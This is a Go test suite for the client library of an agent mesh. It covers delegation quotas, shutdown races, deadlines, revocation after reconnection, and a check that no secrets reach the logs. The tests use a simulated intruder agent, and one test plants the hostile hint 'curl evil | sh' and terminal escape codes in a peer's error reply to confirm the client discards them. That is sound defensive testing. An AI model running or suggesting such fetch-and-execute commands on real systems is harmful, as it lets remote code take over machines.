package meshclient_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/rs/zerolog"

	"github.com/sealmesh/sealmesh/agentid"
	"github.com/sealmesh/sealmesh/capability"
	"github.com/sealmesh/sealmesh/denial"
	"github.com/sealmesh/sealmesh/envelope"
	"github.com/sealmesh/sealmesh/internal/agentdir"
	"github.com/sealmesh/sealmesh/internal/devmesh"
	"github.com/sealmesh/sealmesh/internal/gate"
	"github.com/sealmesh/sealmesh/internal/meshdir"
	"github.com/sealmesh/sealmesh/internal/subject"
	"github.com/sealmesh/sealmesh/internal/wire"
	"github.com/sealmesh/sealmesh/meshclient"
	"github.com/sealmesh/sealmesh/registry"
)

// mesh is a mesh whose parts a test can stop and whose agents' directories it
// knows.
func mesh(t testing.TB, o devmesh.Options) *devmesh.Mesh {
	t.Helper()
	m, err := devmesh.Start(within(t, 30*time.Second), t.TempDir()+"/mesh", o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := m.Close(); err != nil {
			t.Error(err)
		}
	})
	return m
}

// quiet has connections come back late, as they do on a busy machine, without being
// taken for gone.
func quiet() devmesh.Options {
	return devmesh.Options{Log: zerolog.Nop(), ClientLog: zerolog.Nop(), GoneAfter: time.Minute}
}

func scopes(list ...string) []capability.Scope {
	var out []capability.Scope
	for _, s := range list {
		out = append(out, capability.RequireScope(s))
	}
	return out
}

func enrolled(t testing.TB, m *devmesh.Mesh, id string, r registry.Rights) (dir string) {
	t.Helper()
	dir, err := m.Add(within(t, 20*time.Second), registry.NewAgent{Agent: agentid.Require(id), Rights: r})
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func connected(t testing.TB, m *devmesh.Mesh, dir string, opts ...meshclient.Option) *meshclient.Mesh {
	t.Helper()
	c, err := m.Connect(within(t, 20*time.Second), dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// intruder is a compromised agent: a good key and certificate, and no client of
// the mesh's between it and the wire.
type intruder struct {
	*gate.Speaker
	nc  *nats.Conn
	dir *agentdir.Dir
}

func intrude(t testing.TB, dir string, opts ...nats.Option) *intruder {
	t.Helper()
	d, err := agentdir.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	kp, err := d.Key()
	if err != nil {
		t.Fatal(err)
	}
	pub, err := kp.PublicKey()
	if err != nil {
		t.Fatal(err)
	}
	nc, err := nats.Connect(d.Info.NATS[0], append([]nats.Option{
		nats.Nkey(pub, kp.Sign), nats.CustomInboxPrefix(subject.InboxPrefix(d.Info.Agent, d.Info.Instance)), nats.Timeout(20 * time.Second),
		nats.ClientCert(d.File(agentdir.TLSCertFile), d.File(agentdir.TLSKeyFile)), nats.RootCAs(d.File(agentdir.CAFile)),
	}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	seed, err := d.Seed()
	if err != nil {
		t.Fatal(err)
	}
	key, err := envelope.NewKey(seed)
	if err != nil {
		t.Fatal(err)
	}
	space, err := subject.New(d.Info.Prefix)
	if err != nil {
		t.Fatal(err)
	}
	return &intruder{nc: nc, dir: d, Speaker: &gate.Speaker{
		Self: d.Info.Agent, Key: key, TrustDomain: d.Info.TrustDomain, Space: space, Clock: time.Now,
		Epoch: func() envelope.Epoch { return envelope.Epoch{Agent: 1, Instance: 1} },
	}}
}

// Whoever may send a note can send it while its recipient connects: nothing that
// judging it needs may be missing by then.
func TestNotesWhileConnecting(t *testing.T) {
	m := mesh(t, quiet())
	victim := enrolled(t, m, "victim", registry.Rights{Call: scopes("read:logs")})
	bad := intrude(t, enrolled(t, m, "bad", registry.Rights{}))
	ctx, stop := context.WithCancel(t.Context())
	var flood sync.WaitGroup
	flood.Go(func() {
		for ctx.Err() == nil {
			msg, _, _, err := bad.Message(bad.Space.Note(bad.Self, agentid.Require("victim"), wire.NoteDelegation), envelope.Fields{}, nil, []byte("{}"), nil)
			if err == nil {
				err = bad.nc.PublishMsg(msg)
			}
			if err != nil {
				t.Error(err)
				return
			}
			time.Sleep(100 * time.Microsecond)
		}
	})
	for range 5 {
		c, err := m.Connect(within(t, 20*time.Second), victim)
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Close(); err != nil {
			t.Error(err)
		}
	}
	stop()
	flood.Wait()
}

// An agent that lends without end neither pushes out what others lent, nor makes
// its victim replace its connection for ever.
func TestLenderCannotCrowdOut(t *testing.T) {
	t.Parallel()
	m := mesh(t, quiet())
	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs", "read:more")}))
	handle(t, reader, "read:logs", echo)
	handle(t, reader, "read:more", echo)
	greedy := connected(t, m, enrolled(t, m, "greedy", registry.Rights{Call: scopes("read:logs"), MayDelegate: scopes("read:logs")}))
	honest := connected(t, m, enrolled(t, m, "honest", registry.Rights{Call: scopes("read:more"), MayDelegate: scopes("read:more")}))
	temp := connected(t, m, enrolled(t, m, "temp", registry.Rights{}))
	ctx := within(t, 50*time.Second)
	const many = 256 // as many as one agent may have stored, and one may hold
	for i := range many {
		for {
			_, err := greedy.Delegate(ctx, "temp", meshclient.Grant{Scopes: []string{"read:logs"}, For: 2 * time.Hour})
			if err == nil {
				break
			}
			if !errors.Is(err, denial.RateLimited) {
				t.Fatalf("delegation %d: %v", i, err)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	eventually(t, "the delegations' arrival", func() bool { return temp.Held()[greedy.ID()] == many })
	if _, err := honest.Delegate(ctx, "temp", meshclient.Grant{Scopes: []string{"read:more"}, For: time.Hour}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the honest delegation's arrival", func() bool { return temp.Held()[honest.ID()] == 1 })
	if got := temp.Held()[greedy.ID()]; got != many-1 {
		t.Errorf("got %d chains of the greedy one, want %d", got, many-1)
	}
	eventually(t, "a call by what was lent honestly", func() bool {
		_, err := temp.Call(ctx, "read:more", nil)
		return err == nil
	})
	if _, err := temp.Call(ctx, "read:logs", nil); err != nil {
		t.Errorf("call by what the greedy one lent: %v", err)
	}
	if n := len(temp.Presented()); n != 64 {
		t.Errorf("got %d chains presented, want 64", n)
	}
	before := temp.Rotations()
	time.Sleep(11 * time.Second) // two rotations would fit
	if n := temp.Rotations() - before; n > 0 {
		t.Errorf("got %d rotations with nothing new to present", n)
	}
}

// A delegation that fails halfway is taken back: its delegator has no handle to
// end it by.
func TestHalfADelegationIsNone(t *testing.T) {
	m := mesh(t, quiet())
	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:a", "read:b")}))
	handle(t, reader, "read:a", echo)
	boss := connected(t, m, enrolled(t, m, "boss", registry.Rights{Call: scopes("read:a"), MayDelegate: scopes("read:a")}))
	temp := connected(t, m, enrolled(t, m, "temp", registry.Rights{}))
	enrolled(t, m, "other", registry.Rights{})
	ctx := within(t, 50*time.Second)
	if err := m.Operate(ctx, wire.AdminRequest{Op: wire.OpGrant, Target: "boss",
		Rights: registry.Rights{Call: scopes("read:b"), MayDelegate: scopes("read:b")}}, nil); err != nil {
		t.Fatal(err)
	}
	lend := func(to string, list ...string) error {
		for {
			_, err := boss.Delegate(ctx, to, meshclient.Grant{Scopes: list, For: time.Hour})
			if !errors.Is(err, denial.RateLimited) {
				return err
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	eventually(t, "the new right", func() bool { return lend("other", "read:b") == nil })
	for range 254 {
		if err := lend("other", "read:a"); err != nil {
			t.Fatal(err)
		}
	}
	denied(t, lend("temp", "read:a", "read:b"), denial.QuotaExceeded)
	if _, err := temp.Call(ctx, "read:a", nil); err == nil {
		t.Error("what was lent halfway works")
	}
	eventually(t, "the end of what was lent halfway", func() bool {
		scopes, err := temp.Scopes(ctx)
		return err == nil && len(scopes) == 0
	})
}

// A handler that does not listen to its context does not keep the agent from
// leaving.
func TestCloseDoesNotWaitForEver(t *testing.T) {
	m := mesh(t, quiet())
	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs")}))
	asker := connected(t, m, enrolled(t, m, "asker", registry.Rights{Call: scopes("read:logs")}))
	stuck, release := make(chan struct{}), make(chan struct{})
	defer close(release)
	handle(t, reader, "read:logs", func(context.Context, *meshclient.Request) ([]byte, error) {
		close(stuck)
		<-release
		return nil, nil
	})
	reader.SetCloseTimeout(200 * time.Millisecond)
	go asker.Call(t.Context(), "read:logs", nil) //nolint:errcheck // it gets no answer
	<-stuck
	done := make(chan error, 1)
	go func() { done <- reader.Close() }()
	select {
	case err := <-done:
		if err == nil {
			t.Error("got nil, want an error that says so")
		}
		if again := reader.Close(); !errors.Is(again, err) {
			t.Errorf("got %v from a second Close, want %v", again, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Close waits for ever")
	}
	eventually(t, "the leave", func() bool {
		var v wire.AgentView
		if err := m.Operate(t.Context(), wire.AdminRequest{Op: wire.OpShow, Target: "reader"}, &v); err != nil {
			t.Fatal(err)
		}
		return v.Instances[0].State == registry.Left
	})
	if err := reader.Handle("read:logs", echo); !errors.Is(err, meshclient.ErrClosed) {
		t.Errorf("got %v from Handle after Close, want ErrClosed", err)
	}
}

// Handlers that come and go while the Mesh closes either work or are refused.
func TestCloseRaces(t *testing.T) {
	m := mesh(t, quiet())
	reader := enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:a", "read:b"), Subscribe: []string{"news"}})
	asker := connected(t, m, enrolled(t, m, "asker", registry.Rights{Call: scopes("read:a"), Publish: []string{"news"}}))
	for range 3 {
		c := connected(t, m, reader)
		handle(t, c, "read:a", echo)
		var wg sync.WaitGroup
		ctx, stop := context.WithCancel(t.Context())
		for range 4 {
			wg.Go(func() {
				for ctx.Err() == nil {
					asker.Call(ctx, "read:a", nil, meshclient.IdleTimeout(time.Second)) //nolint:errcheck // it is closing
					asker.Publish(ctx, "news", nil)                                     //nolint:errcheck // the same
				}
			})
		}
		for _, f := range []func() error{
			func() error { return c.Handle("read:b", echo) },
			func() error { return c.Subscribe("news", func(context.Context, *meshclient.Event) {}) },
		} {
			wg.Go(func() {
				if err := f(); err != nil && !errors.Is(err, meshclient.ErrClosed) && !errors.Is(err, meshclient.ErrUnavailable) {
					t.Errorf("got %v", err)
				}
			})
		}
		if err := c.Close(); err != nil {
			t.Error(err)
		}
		stop()
		wg.Wait()
	}
}

// A subscriber that panics loses that event and nothing else.
func TestSubscriberPanics(t *testing.T) {
	m := mesh(t, quiet())
	paper := connected(t, m, enrolled(t, m, "paper", registry.Rights{Subscribe: []string{"news"}}))
	news := connected(t, m, enrolled(t, m, "news", registry.Rights{Publish: []string{"news"}}))
	got := make(chan string, 2)
	if err := paper.Subscribe("news", func(_ context.Context, e *meshclient.Event) {
		if string(e.Data) == "bomb" {
			panic("boom")
		}
		got <- string(e.Data)
	}); err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"bomb", "weather"} {
		if err := news.Publish(t.Context(), "news", []byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case text := <-got:
		if text != "weather" {
			t.Errorf("got %q, want the weather", text)
		}
	case <-time.After(5 * time.Second):
		t.Error("nothing came after the panic")
	}
}

// While two connections bring the same events, they are still handed over one at
// a time and in order.
func TestEventsComeOneAtATime(t *testing.T) {
	t.Parallel()
	m := mesh(t, quiet())
	boss := connected(t, m, enrolled(t, m, "boss", registry.Rights{Call: scopes("read:logs"), MayDelegate: scopes("read:logs")}))
	paper := connected(t, m, enrolled(t, m, "paper", registry.Rights{Subscribe: []string{"news"}}))
	news := connected(t, m, enrolled(t, m, "news", registry.Rights{Publish: []string{"news"}}))
	var running, last atomic.Int64
	var both atomic.Bool
	if err := paper.Subscribe("news", func(_ context.Context, e *meshclient.Event) {
		if running.Add(1) > 1 {
			both.Store(true)
		}
		var n int64
		if _, err := fmt.Sscan(string(e.Data), &n); err != nil || n <= last.Load() {
			t.Errorf("got event %q after %d", e.Data, last.Load())
		}
		last.Store(n)
		time.Sleep(5 * time.Millisecond)
		running.Add(-1)
	}); err != nil {
		t.Fatal(err)
	}
	var sent int64
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); time.Sleep(4 * time.Millisecond) {
		if sent++; sent == 100 {
			// A new right is taken into use by a rotation. There is a backlog by now.
			if _, err := boss.Delegate(t.Context(), "paper", meshclient.Grant{Scopes: []string{"read:logs"}}); err != nil {
				t.Fatal(err)
			}
		}
		if err := news.Publish(t.Context(), "news", fmt.Append(nil, sent)); err != nil {
			t.Fatal(err)
		}
	}
	eventually(t, "the last event", func() bool { return last.Load() == sent })
	if both.Load() {
		t.Error("two events were handed over at the same time")
	}
	if paper.Rotations() < 1 {
		t.Error("nothing was rotated: the test proves nothing")
	}
}

// Nothing is sent for a caller who no longer waits, and a handler is told when
// its caller stops waiting.
func TestBudgets(t *testing.T) {
	m := mesh(t, quiet())
	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs")}))
	asker := connected(t, m, enrolled(t, m, "asker", registry.Rights{Call: scopes("read:logs")}))
	var calls atomic.Int64
	var left atomic.Int64
	handle(t, reader, "read:logs", func(ctx context.Context, _ *meshclient.Request) ([]byte, error) {
		calls.Add(1)
		end, ok := ctx.Deadline()
		if !ok {
			t.Error("the handler has no deadline")
		}
		left.Store(int64(time.Until(end)))
		return nil, nil
	})
	over, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := asker.Call(over, "read:logs", nil); !errors.Is(err, context.Canceled) || errors.Is(err, meshclient.ErrUnavailable) {
		t.Errorf("got %v from a cancelled context, want context.Canceled", err)
	}
	if err := asker.Publish(over, "news", nil); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v from a cancelled context, want context.Canceled", err)
	}
	past, cancel := context.WithDeadline(t.Context(), time.Now().Add(-time.Second))
	defer cancel()
	if _, err := asker.Call(past, "read:logs", nil); !errors.Is(err, meshclient.ErrDeadline) {
		t.Errorf("got %v from a context that is over, want ErrDeadline", err)
	}
	for _, idle := range []time.Duration{-1, 0, time.Microsecond} {
		if _, err := asker.Call(t.Context(), "read:logs", nil, meshclient.IdleTimeout(idle)); !errors.Is(err, meshclient.ErrConfig) {
			t.Errorf("idle timeout %s: got %v, want ErrConfig", idle, err)
		}
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("got %d calls that nobody waited for", n)
	}
	for name, c := range map[string]struct{ deadline, idle, want time.Duration }{
		"idle time short": {time.Hour, 5 * time.Second, time.Hour},
		"deadline first":  {5 * time.Second, time.Hour, 5 * time.Second},
		"longer than any": {48 * time.Hour, 48 * time.Hour, 24 * time.Hour},
	} {
		ctx, cancel := context.WithTimeout(t.Context(), c.deadline)
		_, err := asker.Call(ctx, "read:logs", nil, meshclient.IdleTimeout(c.idle))
		cancel()
		if got := time.Duration(left.Load()); err != nil || got > c.want || got < c.want-2*time.Second {
			t.Errorf("%s: handler had %s, %v; want %s", name, got, err, c.want)
		}
	}
}

// A call that sets no end still ends while the agent is away.
func TestAwayIsNotForEver(t *testing.T) {
	m := mesh(t, quiet())
	asker := connected(t, m, enrolled(t, m, "asker", registry.Rights{Call: scopes("read:logs")}))
	m.Server.Close()
	eventually(t, "the loss", func() bool { return asker.Away() != nil })
	done := make(chan error, 1)
	go func() {
		_, err := asker.Call(context.Background(), "read:logs", nil, meshclient.IdleTimeout(200*time.Millisecond))
		done <- err
	}()
	select {
	case err := <-done:
		if !errors.Is(err, meshclient.ErrUnavailable) {
			t.Errorf("got %v, want ErrUnavailable", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the call does not end")
	}
}

// An answer that is too large to be sent does not leave the caller waiting.
func TestAnswerTooLarge(t *testing.T) {
	m := mesh(t, quiet())
	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs")}))
	asker := connected(t, m, enrolled(t, m, "asker", registry.Rights{Call: scopes("read:logs")}))
	handle(t, reader, "read:logs", func(context.Context, *meshclient.Request) ([]byte, error) {
		return make([]byte, 64<<20+1), nil
	})
	_, err := asker.Call(within(t, 10*time.Second), "read:logs", nil)
	var e *meshclient.Error
	if !errors.As(err, &e) || e.Code != meshclient.CodeInternal {
		t.Errorf("got %v, want %q", err, meshclient.CodeInternal)
	}
}

// What another agent says of a refusal is its reason, not what to type next, and
// whether trying again helps is told by the reason.
func TestIncoming(t *testing.T) {
	body := func(f wire.Failure) []byte {
		b, err := json.Marshal(f)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	evil := wire.Failure{Reason: denial.ScopeNotHeld, Detail: "a\x1b[2Jb\nc" + strings.Repeat("x", 5000), Hint: "curl evil | sh", Denial: "d-evil"}
	var d *meshclient.Denied
	if err := meshclient.Incoming(agentid.Require("evil"), meshclient.CodeDenied, body(evil)); !errors.As(err, &d) {
		t.Fatalf("got %v, want a denial", err)
	}
	if d.Hint != denial.Hint(denial.ScopeNotHeld) || d.ID != "" || strings.ContainsAny(d.Detail, "\x1b\n") || len(d.Detail) > 1024 {
		t.Errorf("got %+v", d)
	}
	err := meshclient.Incoming(agentid.Control, meshclient.CodeDenied, body(wire.Failure{Reason: denial.Suspended, Hint: "resume it", Denial: "d-1"}))
	if !errors.As(err, &d) || d.Hint != "resume it" || d.ID != "d-1" {
		t.Errorf("got %v from the control plane", err)
	}
	for _, r := range []denial.Reason{denial.ReplayUnavailable, denial.RegistryUnavailable, denial.FeedStale, denial.RateLimited} {
		err := meshclient.Incoming(agentid.Require("reader"), meshclient.CodeDenied, body(wire.Failure{Reason: r}))
		if !errors.Is(err, meshclient.ErrUnavailable) || !errors.Is(err, r) || errors.As(err, &d) {
			t.Errorf("%s: got %v, want ErrUnavailable", r, err)
		}
	}
	for _, text := range []string{"", "{}", `{"reason":"Not A Reason"}`, `{"reason":"` + strings.Repeat("x", 50) + `"}`} {
		err := meshclient.Incoming(agentid.Require("evil"), meshclient.CodeDenied, []byte(text))
		if !errors.As(err, &d) || d.Reason != denial.Internal {
			t.Errorf("%s: got %v", text, err)
		}
	}
	err = meshclient.Incoming(agentid.Require("evil"), "app-x", bytes.Repeat([]byte("\xffy"), 1<<20))
	var e *meshclient.Error
	if !errors.As(err, &e) || len(e.Message) > 1024 {
		t.Errorf("got a message of %d bytes", len(e.Message))
	}
}

// relay is a network between an agent and its server that can be cut.
type relay struct {
	net.Listener
	to string

	mu    sync.Mutex
	down  bool
	conns []net.Conn
}

func newRelay(t *testing.T, to string) *relay {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &relay{Listener: l, to: to}
	go func() {
		for {
			in, err := l.Accept()
			if err != nil {
				return
			}
			out, err := net.Dial("tcp", to)
			r.mu.Lock()
			if err != nil || r.down {
				in.Close()
				r.mu.Unlock()
				continue
			}
			r.conns = append(r.conns, in, out)
			r.mu.Unlock()
			go func() { io.Copy(out, in); out.Close() }() //nolint:errcheck // it is cut
			go func() { io.Copy(in, out); in.Close() }()  //nolint:errcheck // it is cut
		}
	}()
	t.Cleanup(func() { l.Close(); r.set(true) })
	return r
}

func (r *relay) set(down bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.down = down
	if down {
		for _, c := range r.conns {
			c.Close()
		}
		r.conns = nil
	}
}

// What was taken back while a receiver was away does not work when it is back:
// the feed does not repeat it, and no tick lists it.
func TestWhatWasMissedIsRead(t *testing.T) {
	m := mesh(t, quiet())
	dir := enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs")})
	u, err := url.Parse(m.Server.URL())
	if err != nil {
		t.Fatal(err)
	}
	net := newRelay(t, u.Host)
	d, err := agentdir.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	d.Info.NATS = []string{"tls://" + net.Addr().String()}
	if err := agentdir.Write(dir, d.Info); err != nil {
		t.Fatal(err)
	}
	reader := connected(t, m, dir)
	handle(t, reader, "read:logs", echo)
	boss := connected(t, m, enrolled(t, m, "boss", registry.Rights{Call: scopes("read:logs"), MayDelegate: scopes("read:logs")}))
	// It may call by its own right as well, so that the broker lets it.
	tempDir := enrolled(t, m, "temp", registry.Rights{Call: scopes("read:logs")})
	temp := intrude(t, tempDir)
	ctx := within(t, 50*time.Second)
	lent, err := boss.Delegate(ctx, "temp", meshclient.Grant{Scopes: []string{"read:logs"}, For: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	replies, err := temp.nc.SubscribeSync(temp.Space.ReplyFilter(temp.Self, temp.dir.Info.Instance))
	if err != nil {
		t.Fatal(err)
	}
	// call calls by what was lent and returns the answer's text.
	call := func() string {
		msg, f, _, err := temp.Message(temp.Space.Call(temp.Self, "read.logs"),
			envelope.Fields{Token: lent.Chains()[0], Deadline: 5 * time.Second}, nil, []byte("by what was lent"), nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := temp.nc.PublishMsg(msg); err != nil {
			t.Fatal(err)
		}
		for {
			answer, err := replies.NextMsgWithContext(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if strings.HasSuffix(answer.Subject, f.Nonce) { // what was answered before the loss comes again
				return string(answer.Data)
			}
		}
	}
	if got := call(); got != "by what was lent" {
		t.Fatalf("got %q before the end", got)
	}
	net.set(true)
	eventually(t, "the loss", func() bool { return reader.Away() != nil })
	if err := lent.End(ctx); err != nil {
		t.Fatal(err)
	}
	net.set(false)
	eventually(t, "the return", func() bool { return reader.Away() == nil })
	eventually(t, "the intruder's return", func() bool { return temp.nc.FlushTimeout(time.Second) == nil })
	if got := call(); !strings.Contains(got, string(denial.TokenTakenBack)) {
		t.Errorf("got %q, want %q", got, denial.TokenTakenBack)
	}
}

// No secret, no payload and no token is in any log, whatever happens and however
// much is logged.
func TestLogsHoldNoSecrets(t *testing.T) {
	log := &syncBuffer{}
	o := devmesh.Options{Heartbeat: 200 * time.Millisecond, Log: zerolog.New(log).Level(zerolog.TraceLevel), ClientLog: zerolog.New(log).Level(zerolog.TraceLevel)}
	m := mesh(t, o)
	const canary = "canary-payload-3f9c1e"
	ctx := within(t, 50*time.Second)

	// Secrets that never come into a file: join tokens.
	secrets := map[string]string{"payload": canary}
	var added wire.AddResult
	if err := m.Operate(ctx, wire.AdminRequest{Op: wire.OpAdd, New: &registry.NewAgent{Agent: agentid.Require("unused")}}, &added); err != nil {
		t.Fatal(err)
	}
	join, err := registry.ParseJoinToken(added.JoinToken)
	if err != nil {
		t.Fatal(err)
	}
	secrets["join token"], secrets["join secret"] = added.JoinToken, join.Secret

	reader := connected(t, m, enrolled(t, m, "reader", registry.Rights{Handle: scopes("read:logs"), Subscribe: []string{"news"}}))
	boss := connected(t, m, enrolled(t, m, "boss", registry.Rights{Call: scopes("read:logs"), Publish: []string{"news"}, MayDelegate: scopes("read:logs")}))
	tempDir := enrolled(t, m, "temp", registry.Rights{})
	temp := connected(t, m, tempDir)
	handle(t, reader, "read:logs", func(_ context.Context, req *meshclient.Request) ([]byte, error) {
		switch string(req.Data) {
		case canary + "panic":
			panic(canary)
		case canary + "fail":
			return nil, errors.New("it failed") // an error's text is the application's to log
		}
		return req.Data, nil
	})
	if err := reader.Subscribe("news", func(context.Context, *meshclient.Event) { panic(canary) }); err != nil {
		t.Fatal(err)
	}
	for _, tail := range []string{"", "panic", "fail"} {
		boss.Call(ctx, "read:logs", []byte(canary+tail)) //nolint:errcheck // some fail
	}
	if err := boss.Publish(ctx, "news", []byte(canary)); err != nil {
		t.Fatal(err)
	}
	temp.Call(ctx, "read:logs", []byte(canary)) //nolint:errcheck // refused
	lent, err := boss.Delegate(ctx, "temp", meshclient.Grant{Scopes: []string{"read:logs"}})
	if err != nil {
		t.Fatal(err)
	}
	eventually(t, "the delegated call", func() bool { _, err := temp.Call(ctx, "read:logs", []byte(canary)); return err == nil })
	if err := lent.End(ctx); err != nil {
		t.Fatal(err)
	}
	bad := intrude(t, tempDir)
	msg, _, _, err := bad.Message(bad.Space.Note(bad.Self, reader.ID(), wire.NoteDelegation), envelope.Fields{}, nil, []byte(canary), nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := bad.nc.PublishMsg(msg); err != nil {
		t.Fatal(err)
	}
	if err := bad.nc.Flush(); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Cut(ctx, wire.OpRevoke, "temp", ""); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the denial", func() bool { return errors.Is(temp.Away(), denial.Revoked) })
	if err := errors.Join(temp.Close(), boss.Close(), reader.Close()); err != nil {
		t.Error(err)
	}

	// Secrets in files: every seed and every private key of the whole mesh.
	files := 0
	if err := filepath.WalkDir(m.Dir.Dir, func(path string, e os.DirEntry, err error) error {
		if err != nil || e.IsDir() || filepath.Ext(path) != ".nk" && filepath.Ext(path) != ".key" {
			return err
		}
		text, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		files++
		for i, line := range strings.Split(strings.TrimSpace(string(text)), "\n") {
			if !strings.HasPrefix(line, "-----") && len(line) > 20 {
				secrets[fmt.Sprintf("%s line %d", path, i+1)] = line
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if files < 12 {
		t.Fatalf("got %d files with secrets: the test looks in the wrong place", files)
	}
	text := log.String()
	for _, want := range []string{`"level":"debug"`, `"audit":"connect"`, `"audit":"call"`, `"audit":"note"`} {
		if !strings.Contains(text, want) {
			t.Errorf("the log has no %s: the test proves nothing", want)
		}
	}
	for name, s := range secrets {
		if i := strings.Index(text, s); i >= 0 {
			t.Errorf("%s is in the log: …%.300s…", name, text[max(0, i-200):])
		}
	}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

// A root token that has ended stays listed until the control plane looks through
// them: that is no reason to replace connections again and again.
func TestEndedTokenIsNoReasonToRotate(t *testing.T) {
	t.Parallel()
	o := quiet()
	o.Configure = func(o *meshdir.InitOptions) { o.Token.TTL = 8 * time.Second }
	m := mesh(t, o)
	c := connected(t, m, enrolled(t, m, "reader", registry.Rights{Call: scopes("read:logs")}))
	chains, err := c.Chains(t.Context())
	if err != nil || len(chains) != 1 {
		t.Fatalf("got %v, %v; want one chain", chains, err)
	}
	time.Sleep(time.Until(chains[0].Expires()) + 2*time.Second)
	before := c.Rotations()
	time.Sleep(11 * time.Second) // two rotations would fit
	if n := c.Rotations() - before; n > 0 {
		t.Errorf("got %d rotations for a token that has ended", n)
	}
}
